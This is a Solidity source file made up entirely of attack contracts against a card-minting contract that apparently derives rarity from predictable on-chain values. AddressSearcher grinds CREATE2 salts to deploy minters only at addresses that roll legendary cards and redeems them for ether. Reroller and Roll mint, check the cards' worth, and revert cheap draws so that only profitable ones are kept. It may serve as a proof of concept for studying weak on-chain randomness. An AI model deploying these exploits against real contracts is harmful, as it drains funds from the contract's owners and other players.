// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface ICards {
    function mint() external payable returns (uint256);

    function mintTo(address to) external payable returns (uint256);

    function mintPack(uint256 count) external payable returns (uint256);

    function redeem(uint256 id) external;

    function rarityOf(uint256 id) external view returns (uint8);

    function worth(uint8 rarity) external view returns (uint256);

    function nextId() external view returns (uint256);
}

uint256 constant PRICE = 0.05 ether;

/// Mints one card and turns it into ether at once.
contract LuckyMinter {
    constructor(ICards cards, address payable gain) payable {
        cards.redeem(cards.mint{value: msg.value}());
        gain.transfer(address(this).balance);
    }
}

/// Looks for addresses whose cards will be legendary, and creates minters at just those.
contract AddressSearcher {
    function run(ICards cards, uint256 wins) external payable {
        bytes memory code = abi.encodePacked(type(LuckyMinter).creationCode, abi.encode(cards, msg.sender));
        bytes32 codeHash = keccak256(code);
        for (uint256 salt = 0; wins > 0; salt++) {
            if (!legendary(minterAt(salt, codeHash), cards.nextId())) continue;
            new LuckyMinter{value: PRICE, salt: bytes32(salt)}(cards, payable(msg.sender));
            wins -= 1;
        }
        payable(msg.sender).transfer(address(this).balance);
    }

    function minterAt(uint256 salt, bytes32 codeHash) private view returns (address) {
        return address(uint160(uint256(keccak256(abi.encodePacked(hex"ff", this, salt, codeHash)))));
    }

    function legendary(address minter, uint256 id) private view returns (bool) {
        return uint256(keccak256(abi.encode(block.prevrandao, block.timestamp, minter, id))) % 1000 < 10;
    }
}

/// Mints from another address every time and undoes what turns out too cheap.
contract Reroller {
    function run(ICards cards, uint256 tries, uint256 count, uint256 least) external payable {
        for (uint256 i = 0; i < tries; i++) {
            Roll roll = new Roll();
            try roll.run{value: count * PRICE}(cards, count, least) {} catch {}
        }
        payable(msg.sender).transfer(address(this).balance);
    }

    receive() external payable {}
}

contract Roll {
    function run(ICards cards, uint256 count, uint256 least) external payable {
        uint256 first = count == 1 ? cards.mintTo{value: msg.value}(address(this)) : cards.mintPack{value: msg.value}(count);
        uint256 worth;
        for (uint256 id = first; id < first + count; id++) worth += cards.worth(cards.rarityOf(id));
        require(worth >= least, "again");
        for (uint256 id = first; id < first + count; id++) cards.redeem(id);
        payable(msg.sender).transfer(address(this).balance);
    }

    receive() external payable {}
}
